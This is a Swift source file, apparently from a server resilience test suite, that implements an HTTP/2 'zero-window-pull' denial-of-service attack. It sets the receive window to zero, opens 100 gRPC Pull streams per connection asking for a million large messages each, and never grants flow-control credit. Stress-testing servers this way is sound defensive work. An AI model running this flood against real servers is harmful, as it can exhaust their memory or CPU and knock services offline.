import Foundation
import PalisadeEcho

/// `zero-window-pull`: ask for endless server streams with a receive window of zero.
///
/// Our SETTINGS say INITIAL_WINDOW_SIZE = 0, then 100 `Echo/Pull` streams each ask for
/// 1,000,000 messages, and no WINDOW_UPDATE ever follows: the server may not send a single
/// DATA byte. Two connections: one with 4 MiB messages (the largest allowed), one with 64 KiB.
/// A server whose handlers wait for flow control stays small and idle; one that queues what the
/// handlers produce grows without bound, and one that polls for window spins. The attacker
/// reads (acknowledging SETTINGS like a real client) but grants nothing.
struct ZeroWindowPullAttack: BlockingAttacker {
    /// Message sizes, one connection each.
    static let sizes: [UInt32] = [4 << 20, 64 << 10]
    /// Pull streams per connection (the server's concurrent-stream limit).
    static let streams = 100

    /// Opens the streams, then only reads (granting nothing) until the deadline.
    func attack(_ context: AttackContext) -> AttackReport {
        var report = AttackReport()
        let block = HPACKBlock.request(path: "/\(EchoService.service)/Pull", tls: context.usesTLS).bytes
        let greeting = H2Frames.preface(settings: [(.enablePush, 0), (.initialWindowSize, 0)])
        let connections = Self.sizes.map { size -> AttackConnection in
            let connection = AttackConnection.open(context, greeting: greeting)
            let request = H2Frames.grpcMessage(EchoService.pullRequest(count: 1_000_000, size: size))
            var frames: [UInt8] = []
            for i in 0..<Self.streams {
                let id = UInt32(2 * i + 1)
                H2Frames.appendHeaders(stream: id, fragment: block, endStream: false, endHeaders: true, to: &frames)
                H2Frames.appendData(stream: id, payload: request, endStream: true, to: &frames)
            }
            connection.send(frames)
            if connection.isOpen { report.streamsSent += Self.streams }
            return connection
        }
        // Just sit there, reading, until the deadline (bounded by the deadline only: each
        // iteration waits up to 50 ms).
        while !context.isOver, connections.contains(where: \.isOpen) {
            AttackConnection.pump(connections, timeoutMs: 50, reading: true)
            for connection in connections { connection.acknowledgeSettings() }
        }
        let data = connections.reduce(0) { $0 + $1.reader.dataBytes }
        report.notes.append("\(data.grouped) DATA bytes received with zero window")
        for connection in connections {
            connection.drain()
            report.record(connection, cut: true)
            connection.close()
        }
        return report
    }
}
